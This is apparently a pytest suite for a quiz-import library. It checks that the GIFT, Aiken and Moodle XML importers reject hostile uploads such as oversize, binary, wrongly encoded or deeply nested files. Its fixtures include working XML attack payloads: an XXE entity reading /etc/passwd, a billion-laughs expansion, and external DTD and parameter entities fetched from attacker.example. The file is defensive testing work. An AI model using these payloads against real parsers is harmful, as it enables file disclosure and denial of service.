"""Hostile files fed to every importer of this family (GIFT, Aiken, Moodle XML): XXE, billion laughs, a DOCTYPE,
files over the size limit, binary garbage, the wrong encoding, XML nested too deep. Each is refused with a clear
whole-file problem, quickly, and nothing from outside the file ever reaches a question."""

from __future__ import annotations

import time

import pytest

from syllabus.assessment import xmlsafe
from syllabus.assessment.formats import base
from syllabus.assessment.formats import moodle as conventions

FORMATS = ("gift", "aiken", "moodlexml")

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="description"><name><text>&secret;</text></name>
<questiontext format="html"><text>&secret;</text></questiontext></question></quiz>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<quiz><question type="description"><questiontext><text>&lol9;</text></questiontext></question></quiz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/evil.dtd">
<quiz/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!doctype quiz [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]><quiz/>"""

GARBAGE = bytes((i * 7919 + 13) % 256 for i in range(4096))


def parse(key: str, content: bytes) -> base.ParseResult:
    return base.get(key).parse(content, filename="upload")


@pytest.mark.parametrize("content", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["xxe", "billion laughs", "external dtd", "parameter entity"])  # fmt: skip
def test_moodle_xml_with_a_doctype_or_entities_is_refused_before_parsing(content: bytes) -> None:
    result = parse("moodlexml", content)
    assert result.problems == [base.Problem(xmlsafe.DOCTYPE_REFUSED)]
    assert result.questions == []


@pytest.mark.parametrize("key", ["gift", "aiken"])
@pytest.mark.parametrize("content", [XXE, BILLION_LAUGHS], ids=["xxe", "billion laughs"])
def test_text_formats_read_xml_entities_as_plain_text_and_expand_nothing(key: str, content: bytes) -> None:
    result = parse(key, content)
    texts = " ".join(q.text + q.name + str(q.data) for q in result.questions)
    assert "root:" not in texts
    assert "lollol" not in texts
    assert len(texts) < len(content) * 2


@pytest.mark.parametrize("key", FORMATS)
def test_a_file_over_the_size_limit_is_refused_without_being_read(key: str) -> None:
    content = b"a" * (base.MAX_FILE_BYTES + 1)
    started = time.monotonic()
    result = parse(key, content)
    assert result.problems == [base.Problem(base.TOO_LARGE.format(limit=20))]
    assert result.questions == []
    assert time.monotonic() - started < 1


@pytest.mark.parametrize("key", FORMATS)
def test_the_size_limit_is_read_when_parsing(key: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(base, "MAX_FILE_BYTES", 2 * 1024 * 1024)
    assert parse(key, b" " * (2 * 1024 * 1024 + 1)).problems == [base.Problem(base.TOO_LARGE.format(limit=2))]


@pytest.mark.parametrize(
    ("key", "message"),
    [("gift", base.NOT_TEXT), ("aiken", base.NOT_TEXT), ("moodlexml", "The file is not well-formed XML: ")],
)
def test_binary_garbage_is_refused_whole(key: str, message: str) -> None:
    [problem] = parse(key, GARBAGE).problems
    assert problem.message.startswith(message)
    assert problem.line is None


@pytest.mark.parametrize("key", ["gift", "aiken"])
def test_a_text_file_with_nul_bytes_is_refused_as_binary(key: str) -> None:
    assert parse(key, b"Question?\x00\nA) a\nB) b\nANSWER: A").problems == [base.Problem(base.NOT_TEXT)]


@pytest.mark.parametrize(
    ("key", "content", "message"),
    [
        ("gift", "Café crème? {T}".encode("cp1252"), base.NOT_TEXT),
        ("aiken", "Ça va?\nA) oui\nB) non\nANSWER: A".encode("latin-1"), base.NOT_TEXT),
        ("gift", "Q? {T}".encode("utf-16"), base.NOT_TEXT),
        (
            "moodlexml",
            '<?xml version="1.0" encoding="UTF-8"?><quiz><question type="description"><questiontext><text>Café'
            "</text></questiontext></question></quiz>".encode("latin-1"),
            "The file is not well-formed XML: ",
        ),
    ],
    ids=["gift in cp1252", "aiken in latin-1", "gift in utf-16", "xml declared utf-8 but latin-1"],
)
def test_the_wrong_encoding_is_refused_with_a_clear_message(key: str, content: bytes, message: str) -> None:
    [problem] = parse(key, content).problems
    assert problem.message.startswith(message)


def test_moodle_xml_in_a_declared_legacy_encoding_is_read() -> None:
    content = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><quiz><question type="description"><questiontext>'
        "<text>Café</text></questiontext></question></quiz>"
    ).encode("latin-1")
    assert parse("moodlexml", content).questions[0].text == "Café"


def test_xml_nested_deeper_than_lxmls_limit_is_refused() -> None:
    depth = 100_000
    content = b"<quiz>" + b"<question>" * depth + b"</question>" * depth + b"</quiz>"
    [problem] = parse("moodlexml", content).problems
    assert problem.message.startswith("The file is not well-formed XML: ")
    assert "depth" in problem.message.lower()


def test_gift_braces_nested_deeply_are_one_problem_not_a_recursion() -> None:
    result = parse("gift", b"Q " + b"{" * 200_000 + b"}" * 200_000)
    assert [p.message for p in result.problems] == ["A { opens inside the answer block: write \\{ for a literal brace."]


@pytest.mark.parametrize("key", FORMATS)
def test_an_empty_file_holds_no_questions(key: str) -> None:
    content = b'<?xml version="1.0"?><quiz></quiz>' if key == "moodlexml" else b""
    assert parse(key, content).problems == [base.Problem(base.EMPTY)]


def test_moodle_xml_that_is_not_xml_at_all_names_the_parsers_line() -> None:
    [problem] = parse("moodlexml", b"::GIFT:: question {T}").problems
    assert problem.message.startswith("The file is not well-formed XML: ")
    assert "line 1" in problem.message


def test_a_huge_question_count_within_the_size_limit_is_refused_fast() -> None:
    content = ("\n\n".join(f"Q{i} {{T}}" for i in range(base.MAX_QUESTIONS + 1))).encode()
    started = time.monotonic()
    result = parse("gift", content)
    assert result.problems == [base.Problem(base.TOO_MANY.format(limit=base.MAX_QUESTIONS))]
    assert time.monotonic() - started < 10


def test_moodle_xml_with_a_huge_attribute_or_text_is_read_without_blowing_up() -> None:
    big = "x" * 1_000_000
    content = f'<quiz><question type="{big}"><name><text>{big}</text></name></question></quiz>'.encode()
    [problem] = parse("moodlexml", content).problems
    assert problem.message == f"Question type {'x' * 60} is not supported."
    assert problem.line == 1
    assert problem.question == "x" * 255


TOO_MANY_ANSWERS = conventions.TOO_MANY_ANSWERS.format(limit=conventions.MAX_ANSWERS)


@pytest.mark.parametrize(
    "block",
    ["{=a" + " ~b" * 200 + "}", "{" + "=a " * 201 + "}", "{#" + "=1:0 " * 201 + "}", "{" + "=a -> b " * 201 + "}"],
    ids=["choices", "short answers", "numbers", "pairs"],
)
def test_a_gift_question_with_thousands_of_answers_is_refused_before_they_are_read(block: str) -> None:
    result = parse("gift", f"Q {block}\n\nNext {{T}}".encode())
    assert [(p.message, p.line) for p in result.problems] == [(TOO_MANY_ANSWERS, 1)]
    assert [q.name for q in result.questions] == ["Next"]


def test_a_gift_question_at_the_answer_limit_is_read() -> None:
    [question] = parse("gift", ("Q {=a" + " ~b" * 199 + "}").encode()).questions
    assert len(question.data["options"]) == conventions.MAX_ANSWERS


@pytest.mark.parametrize(
    ("qtype", "before", "row", "after"),
    [
        ("multichoice", "", '<answer fraction="0"><text>a</text></answer>', ""),
        ("matching", "", "<subquestion><text>a</text><answer><text>b</text></answer></subquestion>", ""),
        ("ddwtos", "", "<dragbox><text>a</text><group>1</group></dragbox>", ""),
        (
            "numerical",
            '<answer fraction="100"><text>1</text></answer><units>',
            "<unit><multiplier>1</multiplier><unit_name>m</unit_name></unit>",
            "</units>",
        ),
        ("description", "<tags>", "<tag><text>t</text></tag>", "</tags>"),
    ],
)
def test_a_moodle_question_with_thousands_of_rows_is_refused(qtype: str, before: str, row: str, after: str) -> None:
    rows = before + row * (conventions.MAX_ANSWERS + 1) + after
    content = f'<quiz><question type="{qtype}"><questiontext><text>Q</text></questiontext>{rows}</question></quiz>'
    assert parse("moodlexml", content.encode()).problems == [base.Problem(TOO_MANY_ANSWERS, line=1)]


def test_an_aiken_question_with_a_million_option_lines_is_one_problem() -> None:
    content = b"Q?\n" + b"A) x\n" * 1_000_000 + b"ANSWER: A\n\nNext?\nA) a\nB) b\nANSWER: B"
    result = parse("aiken", content)
    assert [(p.message, p.line) for p in result.problems] == [("Option A appears twice.", 1)]
    assert [q.name for q in result.questions] == ["Next?"]


# --- regressions: work that grew faster than the file ----------------------------------------------------------------


@pytest.mark.parametrize("head", ["[tag:", "[id:"])
def test_a_gift_comment_of_unclosed_ids_or_tags_is_read_in_linear_time(head: str) -> None:
    # Every "[tag:" scanned to the end of the line before failing: a 100 KB file took 90 seconds.
    content = ("// " + head * 400_000 + "\nQ {T}\n").encode()
    started = time.monotonic()
    [question] = parse("gift", content).questions
    assert time.monotonic() - started < 5
    assert question.tags == [] and question.idnumber == ""


def test_gift_ids_and_tags_are_still_read_around_escapes_and_unclosed_brackets() -> None:
    content = b"// [tag:open [id:a\\]b] [tag:x] [tag:y\\]z]\n// [tag:\x01] [tag:last\nQ {T}\n"
    [question] = parse("gift", content).questions
    assert question.idnumber == "a]b"
    assert question.tags == ["open [id:a]b", "x", "y]z"]


def test_a_huge_nameless_question_is_named_from_the_start_of_its_text_quickly() -> None:
    # The name took html_to_text of the whole text (a minute for 19 MB), for its first 80 characters.
    content = b"word\n" * 2_000_000 + b"{T}\n"
    started = time.monotonic()
    [question] = parse("gift", content).questions
    assert time.monotonic() - started < 15
    assert question.name.startswith("word word")
    assert len(question.name) <= conventions.NAME_LENGTH
